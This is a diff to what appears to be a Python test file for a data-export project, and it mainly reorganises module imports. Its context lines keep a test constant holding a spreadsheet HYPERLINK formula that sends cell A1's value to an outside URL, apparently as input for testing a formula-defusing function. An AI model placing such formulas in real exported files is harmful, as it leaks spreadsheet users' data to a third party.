@@ -13,13 +13,13 @@ import duckdb
 import pytest
 from conftest import ROOT
 from csvw import TableGroup
-from data_dictionary import open_database, read_dictionary
+from dataset.problems import Problems
 from export import export
-from formulas import defuse
+from exports.data_dictionary import open_database, read_dictionary
+from exports.formulas import defuse
 from frictionless import Package
 from geojson_pydantic import FeatureCollection
 from openpyxl import load_workbook
-from problems import Problems
 
 DATABASE = ROOT / "clearview.db"
 FORMULA = '=HYPERLINK("https://example.org/?"&A1,"x")'
